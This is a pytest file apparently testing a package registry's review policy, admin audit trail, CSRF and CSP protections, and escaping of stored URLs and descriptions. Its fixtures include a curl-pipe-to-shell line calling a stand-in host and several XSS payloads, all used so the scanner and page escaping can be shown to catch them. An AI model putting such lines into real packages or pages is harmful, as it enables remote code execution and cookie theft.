"""The publication policy against a real `comfy registry serve`: untrusted publishers' versions wait for review;
reviewers see the diff and findings; pages carry a CSP, forms need CSRF tokens, stored URLs never become scripts."""

from __future__ import annotations

import re
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from click.testing import CliRunner
from sqlmodel import select

from hearth.cli.main import cli
from hearth.registry_server.admin.models import AuditEntry
from hearth.registry_server.packs.models import Pack
from tests.harness.packs import make_pack
from tests.registry_server.conftest import _shared
from tests.registry_server.helpers import Hub, unique

SPAWN = "import os\n\n\ndef run():\n    os.system('curl evil.example | sh')\n"


@pytest.fixture(scope="module")
def reg(request: pytest.FixtureRequest) -> Iterator[Hub]:
    """One registry with the default policy (--review untrusted); static checks only, to keep it quick."""
    server, h = _shared(request, "review", isolate_import=False)
    yield h
    h.close()
    server.stop()


def _publish(hub: Hub, folder: Path, token: str) -> dict:
    detail = hub.publish_dir(folder, token)
    assert detail["status"] != "pending", detail
    return detail


def _audit(hub: Hub, action: str, target: str) -> list[AuditEntry]:
    with hub.session() as s:
        return list(s.exec(select(AuditEntry).where(AuditEntry.action == action, AuditEntry.target == target)).all())


def _visible(hub: Hub, name: str, publisher: str = "") -> dict[str, bool]:
    """Every place a reader or an installer could find a pack."""
    simple = hub.http.get(f"/simple/{name}/", headers={"Accept": "application/vnd.pypi.simple.v1+json"})
    return {
        "simple": simple.status_code == 200 and bool(simple.json().get("files")),
        "simple_list": name in hub.http.get("/simple/").text,
        "search": [p["id"] for p in hub.http.get("/api/v1/search", params={"q": name}).json()["results"]] == [name],
        "comfy_search": name in hub.http.get("/nodes/search", params={"search": name}).text,
        "comfy_versions": name in hub.http.get(f"/nodes/{name}/versions").text,
        "listing": bool(hub.http.get(f"/api/v1/packs/{name}").json().get("versions")),
        "install": hub.http.get(f"/nodes/{name}/install").status_code == 200,
        "install_pinned": hub.http.get(f"/nodes/{name}/install", params={"version": "1.0.0",
                                                                          "allow_flagged": "true"}).status_code == 200,
        "web_search": f"/packs/{name}\"" in hub.http.get("/", params={"q": name}).text,
        "publisher": name in hub.http.get(f"/api/v1/publishers/{publisher}").text if publisher else False,
        "publisher_page": name in hub.http.get(f"/publishers/{publisher}").text if publisher else False,
    }


def test_untrusted_publish_waits_for_review_then_approve_makes_it_installable(reg: Hub, tmp_path: Path):
    pub, token = reg.new_publisher(trusted=False)
    name = unique("fresh-")
    detail = _publish(reg, make_pack(tmp_path, name, "1.0.0", pub, node_class=f"{name.title().replace('-', '')}X"),
                      token)
    # A clean scan does not matter: the publisher is not trusted.
    assert detail["status"] == "review" and "not trusted" in detail["status_reason"]
    assert detail["findings"] == []
    assert not any(_visible(reg, name, pub).values()), _visible(reg, name, pub)
    assert reg.http.get(f"/api/v1/files/{detail['sha256']}").status_code == 404

    admin = reg.admin_token()
    queue = reg.http.get("/api/v1/admin/queue", headers={"Authorization": f"Bearer {admin}"}).json()
    assert any(q["pack"] == name and q["status"] == "review" for q in queue)
    r = reg.http.post("/api/v1/admin/approve", json={"target": f"{name}@1.0.0", "reason": "read it"},
                      headers={"Authorization": f"Bearer {admin}"})
    assert r.status_code == 200, r.text
    assert reg.wait(name, "1.0.0")["status"] == "active"
    seen = _visible(reg, name, pub)
    assert seen["simple"] and seen["search"] and seen["install"] and seen["publisher"], seen
    [entry] = _audit(reg, "version.approve", f"{name}@1.0.0")
    assert entry.actor.startswith("user:") and entry.detail["reason"] == "read it"


def test_uv_cannot_install_a_version_under_review(reg: Hub, tmp_path: Path):
    from tests.registry_server.test_index import _uv

    uv = _uv()
    pub, token = reg.new_publisher(trusted=False)
    name = unique("hidden-")
    assert _publish(reg, make_pack(tmp_path, name, "1.0.0", pub), token)["status"] == "review"
    env = {"UV_CACHE_DIR": str(tmp_path / "uv-cache"), "UV_NO_CONFIG": "1", "UV_PYTHON_DOWNLOADS": "never",
           "PATH": "/usr/bin:/bin"}
    import subprocess
    import sys

    venv = tmp_path / "venv"
    subprocess.run([uv, "venv", "-q", "--python", sys.executable, str(venv)], check=True, env=env)
    r = subprocess.run([uv, "pip", "install", "--python", str(venv / "bin" / "python"), "--index-url",
                        f"{reg.url}/simple/", name], capture_output=True, text=True, env=env, timeout=120)
    assert r.returncode != 0 and name in r.stderr, r.stderr


def test_reject_and_ban_are_audited_and_never_installable(reg: Hub, tmp_path: Path):
    pub, token = reg.new_publisher(trusted=False)
    name = unique("turned-")
    _publish(reg, make_pack(tmp_path, name, "1.0.0", pub), token)
    _publish(reg, make_pack(tmp_path, name, "1.1.0", pub), token)
    admin = {"Authorization": f"Bearer {reg.admin_token()}"}
    assert reg.http.post("/api/v1/admin/reject", json={"target": f"{name}@1.0.0", "reason": "obfuscated"},
                         headers=admin).status_code == 200
    assert reg.http.post("/api/v1/admin/ban", json={"target": f"{name}@1.1.0", "reason": "malware"},
                         headers=admin).status_code == 200
    assert reg.http.get(f"/api/v1/packs/{name}/versions/1.0.0").json()["status"] == "rejected"
    # A rejected version cannot be approved into the index later by mistake, nor installed by pin.
    assert reg.http.post("/api/v1/admin/approve", json={"target": f"{name}@1.0.0"}, headers=admin).status_code == 409
    assert not any(_visible(reg, name).values())
    assert _audit(reg, "version.reject", f"{name}@1.0.0")[0].detail["reason"] == "obfuscated"
    assert _audit(reg, "ban", f"{name}@1.1.0")[0].detail["reason"] == "malware"


def test_trusted_publisher_clean_scan_goes_active_flagged_scan_does_not(reg: Hub, tmp_path: Path):
    pub, token = reg.new_publisher(trusted=True)
    clean, risky = unique("clean-"), unique("risky-")
    assert _publish(reg, make_pack(tmp_path, clean, "1.0.0", pub), token)["status"] == "active"
    d = _publish(reg, make_pack(tmp_path, risky, "1.0.0", pub, extra_files={"x.py": SPAWN}), token)
    assert d["status"] == "flagged" and d["findings"]
    assert not _visible(reg, risky)["install"]


def test_trust_is_set_by_the_admin_command_and_audited(reg: Hub, tmp_path: Path):
    pub, token = reg.new_publisher(trusted=False)
    args = ["registry", "admin", "trust", pub, "--data", str(reg.settings.data_dir), "--reason", "known author"]
    r = CliRunner().invoke(cli, args)
    assert r.exit_code == 0, r.output
    [entry] = _audit(reg, "publisher.trust", pub)
    assert entry.detail == {"from": "untrusted", "to": "trusted", "reason": "known author"}
    name = unique("nowtrusted-")
    assert _publish(reg, make_pack(tmp_path, name, "1.0.0", pub), token)["status"] == "active"
    bad = CliRunner().invoke(cli, ["registry", "admin", "trust", "no-such-pub", "--data", str(reg.settings.data_dir)])
    assert bad.exit_code == 2 and "no-such-pub" in bad.output


def test_comfy_node_publish_says_the_version_waits_for_review(reg: Hub, tmp_path: Path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "home" / ".config"))
    pub, token = reg.new_publisher(trusted=False)
    name = unique("authored-")
    pack = make_pack(tmp_path, name, "1.0.0", pub)
    r = CliRunner().invoke(cli, ["node", "publish", str(pack), "--token", token, "--registry", reg.url])
    assert r.exit_code == 0, r.output
    assert "waits for review" in r.output and "not installable yet" in r.output
    assert reg.wait(name, "1.0.0")["status"] == "review"


@pytest.mark.parametrize("policy", ["all", "none"])
def test_review_policy_all_and_none(policy: str, make_server, tmp_path: Path):
    _, hub = make_server(review=policy, isolate_import=False)
    trusted_pub, trusted_token = hub.new_publisher(trusted=True)
    stranger, stranger_token = hub.new_publisher(trusted=False)
    a, b = unique("a-"), unique("b-")
    sa = _publish(hub, make_pack(tmp_path, a, "1.0.0", trusted_pub), trusted_token)["status"]
    sb = _publish(hub, make_pack(tmp_path, b, "1.0.0", stranger), stranger_token)["status"]
    assert (sa, sb) == (("review", "review") if policy == "all" else ("active", "active"))


def test_policy_is_read_from_the_environment_and_checked(monkeypatch):
    from hearth.registry_server.settings import Settings

    monkeypatch.setenv("HEARTH_REGISTRY_REVIEW", "all")
    assert Settings.from_env().review == "all"
    with pytest.raises(ValueError, match="review policy 'sometimes'"):
        Settings(review="sometimes")
    r = CliRunner().invoke(cli, ["registry", "serve", "--review", "sometimes"])
    assert r.exit_code == 2 and "--review" in r.output


# ---------------------------------------------------------------------------------------------------------------
# The review page and the queue.


def _browser(hub: Hub) -> tuple[httpx.Client, str]:
    """A signed-in admin browser (its own cookie jar) and the CSRF token of its forms."""
    browser = httpx.Client(base_url=hub.url, timeout=30)
    page = browser.get("/login").text
    login_csrf = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    r = browser.post("/login", data={"token": hub.admin_token(), "next": "/admin", "csrf_token": login_csrf},
                     follow_redirects=False)
    assert r.status_code == 303, r.text
    admin_page = browser.get("/admin").text
    return browser, re.search(r'name="csrf_token" value="([^"]+)"', admin_page).group(1)


def test_review_page_shows_the_diff_since_the_last_approved_version_with_findings(reg: Hub, tmp_path: Path):
    pub, token = reg.new_publisher(trusted=False)
    name = unique("diffed-")
    helper_v1 = "def helper():\n    return 1\n"
    _publish(reg, make_pack(tmp_path / "v1", name, "1.0.0", pub, extra_files={"helper.py": helper_v1,
                                                                               "same.py": "X = 1\n"}), token)
    browser, csrf = _browser(reg)
    assert browser.post("/admin/action", data={"target": f"{name}@1.0.0", "action": "approve", "csrf_token": csrf},
                        follow_redirects=False).status_code == 303
    helper_v2 = "import os\n\n\ndef helper():\n    os.system('curl evil.example | sh')\n    return 1\n"
    d = _publish(reg, make_pack(tmp_path / "v2", name, "1.1.0", pub, extra_files={"helper.py": helper_v2,
                                                                                   "same.py": "X = 1\n"}), token)
    assert d["status"] == "review"
    [finding] = [f for f in d["findings"] if f["path"] == "helper.py" and f["line"] == 5]

    r = browser.get(f"/admin/review/{name}/1.1.0")
    assert r.status_code == 200, r.text
    page = r.text
    assert "Changes since <strong>1.0.0</strong>" in page
    assert "helper.py" in page and "same.py" not in page  # only changed files
    # The added line, then the finding about it on the very next row.
    rows = re.findall(r"<tr class=\"(\w+)\">(.*?)</tr>", page, re.S)
    at = next(i for i, (kind, body) in enumerate(rows) if kind == "add" and "evil.example" in body)
    assert rows[at + 1][0] == "finding" and finding["rule"] in rows[at + 1][1]
    assert any(kind == "del" for kind, _ in rows) or any(kind == "add" and "import os" in b for kind, b in rows)
    # No approved version yet: every file shows as added.
    fresh = unique("first-")
    _publish(reg, make_pack(tmp_path, fresh, "1.0.0", pub), token)
    first = browser.get(f"/admin/review/{fresh}/1.0.0").text
    assert "No approved version yet" in first and "pyproject.toml" in first
    assert browser.get(f"/admin/review/{fresh}/9.9.9").status_code == 404
    anonymous = httpx.get(f"{reg.url}/admin/review/{name}/1.1.0", follow_redirects=False)
    assert anonymous.status_code == 303 and "/login" in anonymous.headers["location"]


def test_queue_ranks_the_most_severe_findings_first(reg: Hub, tmp_path: Path):
    pub, token = reg.new_publisher(trusted=False)
    risky, clean = unique("rank-risky-"), unique("rank-clean-")
    _publish(reg, make_pack(tmp_path, clean, "1.0.0", pub), token)  # older, but harmless
    _publish(reg, make_pack(tmp_path, risky, "1.0.0", pub, extra_files={"x.py": SPAWN}), token)
    admin = {"Authorization": f"Bearer {reg.admin_token()}"}
    order = [q["pack"] for q in reg.http.get("/api/v1/admin/queue", headers=admin).json()]
    assert order.index(risky) < order.index(clean)
    browser, _ = _browser(reg)
    page = browser.get("/admin").text
    assert page.index(risky) < page.index(clean) and "os.system" in page


# ---------------------------------------------------------------------------------------------------------------
# The pages as a hostile site or publisher would try them.


def test_forms_refuse_a_missing_or_wrong_csrf_token(reg: Hub, tmp_path: Path):
    pub, token = reg.new_publisher(trusted=False)
    name = unique("csrf-")
    _publish(reg, make_pack(tmp_path, name, "1.0.0", pub), token)
    browser, csrf = _browser(reg)
    target = {"target": f"{name}@1.0.0", "action": "approve"}
    # A cross-site form post carries the cookie (say an old browser, or a lax cookie) but cannot know the token.
    assert browser.post("/admin/action", data=target).status_code == 403
    assert browser.post("/admin/action", data={**target, "csrf_token": "0" * 64}).status_code == 403
    assert browser.post("/admin/action", data={**target, "csrf_token": csrf},
                        headers={"Origin": "https://evil.example"}).status_code == 403
    assert reg.http.get(f"/api/v1/packs/{name}/versions/1.0.0").json()["status"] == "review"
    # Another admin's token is not this session's token.
    other, other_csrf = _browser(reg)
    assert browser.post("/admin/action", data={**target, "csrf_token": other_csrf}).status_code == 403
    other.close()
    r = browser.post("/admin/action", data={**target, "csrf_token": csrf}, follow_redirects=False)
    assert r.status_code == 303
    # Signing out is a form too.
    assert browser.post("/logout").status_code == 403
    assert browser.post("/logout", data={"csrf_token": csrf}, follow_redirects=False).status_code == 303
    assert browser.get("/admin", follow_redirects=False).status_code == 303  # to /login again
    assert reg.http.get(f"/api/v1/packs/{name}/versions/1.0.0").json()["status"] == "active"
    # The sign-in form too (login CSRF): no token, or one not matching the browser's cookie, is refused.
    fresh = httpx.Client(base_url=reg.url)
    assert fresh.post("/login", data={"token": reg.admin_token()}).status_code == 403
    fresh.get("/login")
    assert fresh.post("/login", data={"token": reg.admin_token(), "csrf_token": "forged"}).status_code == 403
    fresh.close()
    browser.close()


def test_every_page_has_a_strict_csp_and_no_inline_script(reg: Hub, tmp_path: Path):
    pub, token = reg.new_publisher(trusted=True)
    name = unique("csp-")
    _publish(reg, make_pack(tmp_path, name, "1.0.0", pub), token)
    browser, _ = _browser(reg)
    for client, path in ((reg.http, "/"), (reg.http, f"/packs/{name}"), (reg.http, f"/publishers/{pub}"),
                         (reg.http, "/login"), (browser, "/admin"), (browser, f"/admin/review/{name}/1.0.0")):
        r = client.get(path)
        assert r.status_code == 200, (path, r.text[:300])
        csp = r.headers.get("content-security-policy", "")
        assert "default-src 'none'" in csp and "frame-ancestors 'none'" in csp, (path, csp)
        assert "unsafe-inline" not in csp and "script-src" not in csp, (path, csp)  # no script at all
        assert "<script" not in r.text and "<style" not in r.text and " style=" not in r.text, path
        assert r.headers["x-content-type-options"] == "nosniff"
    css = reg.http.get("/static/registry.css")
    assert css.status_code == 200 and css.headers["content-type"].startswith("text/css")
    docs = reg.http.get("/docs")
    assert "'sha256-" in docs.headers["content-security-policy"]
    assert "unsafe-inline" not in docs.headers["content-security-policy"].split("script-src")[1].split(";")[0]


@pytest.mark.parametrize("url", ["javascript:alert(document.cookie)", "JaVaScRiPt:alert(1)",
                                 " javascript:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>x</script>",
                                 "vbscript:msgbox(1)", "//evil.example/x"])
def test_a_stored_script_url_is_never_a_link_and_text_is_escaped(reg: Hub, tmp_path: Path, url: str):
    pub, token = reg.new_publisher(trusted=True)
    name = unique("xss-")
    _publish(reg, make_pack(tmp_path, name, "1.0.0", pub), token)
    with reg.session() as s:  # rows written before the manifest rules existed, or by a buggy migration
        pack = s.exec(select(Pack).where(Pack.id == name)).one()
        pack.repository = url
        pack.description = '<script>alert("d")</script><img src=x onerror=alert(1)>'
        s.add(pack)
        s.commit()
    reg.server.cache.clear()
    page = httpx.get(f"{reg.url}/packs/{name}", headers={"Cookie": "nocache=1"}).text
    hrefs = re.findall(r'href="([^"]*)"', page)
    assert not any(h.strip().lower().startswith(("javascript", "data", "vbscript", "//")) or "script:" in h
                   for h in hrefs), hrefs
    assert "<script>" not in page and "<img src=x" not in page
    assert "&lt;script&gt;alert(" in page
    search = httpx.get(f"{reg.url}/", params={"q": name}, headers={"Cookie": "nocache=1"}).text
    assert "<script>" not in search


def test_an_http_repository_is_still_a_link(reg: Hub, tmp_path: Path):
    pub, token = reg.new_publisher(trusted=True)
    name = unique("link-")
    _publish(reg, make_pack(tmp_path, name, "1.0.0", pub), token)
    page = reg.http.get(f"/packs/{name}").text
    assert f'href="https://example.com/{pub}/{name}"' in page


def test_reject_from_the_command_line_is_audited(reg: Hub, tmp_path: Path):
    pub, token = reg.new_publisher(trusted=False)
    name = unique("clireject-")
    _publish(reg, make_pack(tmp_path, name, "1.0.0", pub), token)
    r = CliRunner().invoke(cli, ["registry", "admin", "reject", f"{name}@1.0.0", "--reason", "typosquat",
                                 "--data", str(reg.settings.data_dir)])
    assert r.exit_code == 0, r.output
    # Another process wrote: the server notices through the audit log within cache_watch_s.
    deadline = time.monotonic() + 10
    while reg.http.get(f"/api/v1/packs/{name}/versions/1.0.0").json()["status"] != "rejected":
        assert time.monotonic() < deadline, "the server never showed the rejection"
        time.sleep(0.1)
    [entry] = _audit(reg, "version.reject", f"{name}@1.0.0")
    assert (entry.actor, entry.detail["reason"]) == ("cli", "typosquat")
    again = CliRunner().invoke(cli, ["registry", "admin", "reject", f"{name}@1.0.0", "--data",
                                     str(reg.settings.data_dir)])
    assert again.exit_code == 2 and "rejected" in again.output


def test_forms_behind_a_proxy_accept_the_public_origin_only():
    from starlette.requests import Request

    from hearth.registry_server.errors import ApiError
    from hearth.registry_server.web.security import check_same_origin

    def post(origin: str) -> Request:  # as the proxy forwards it: the internal address, the browser's Origin
        return Request({"type": "http", "method": "POST", "scheme": "http", "path": "/admin/action",
                        "server": ("10.0.0.5", 8080), "headers": [(b"host", b"10.0.0.5:8080"),
                                                                  (b"origin", origin.encode())]})

    check_same_origin(post("https://registry.example.org"), "https://registry.example.org")
    check_same_origin(post("http://10.0.0.5:8080"), "https://registry.example.org")
    for bad in ("https://evil.example", "https://registry.example.org.evil.example", "http://registry.example.org"):
        with pytest.raises(ApiError, match="not from this registry"):
            check_same_origin(post(bad), "https://registry.example.org")


def test_review_page_summarises_binary_files_and_escapes_findings(reg: Hub, tmp_path: Path):
    pub, token = reg.new_publisher(trusted=False)
    name = unique("binary-")
    pack = make_pack(tmp_path, name, "1.0.0", pub, extra_files={
        "evil.py": "import os\nos.system('<b>owned</b>')\n"})
    (pack / "weights.bin").write_bytes(bytes(range(256)) * 4)
    _publish(reg, pack, token)
    browser, _ = _browser(reg)
    page = browser.get(f"/admin/review/{name}/1.0.0").text
    assert "weights.bin" in page and "binary or over" in page and "1024 bytes" in page
    assert "<b>owned</b>" not in page and "&lt;b&gt;owned&lt;/b&gt;" in page
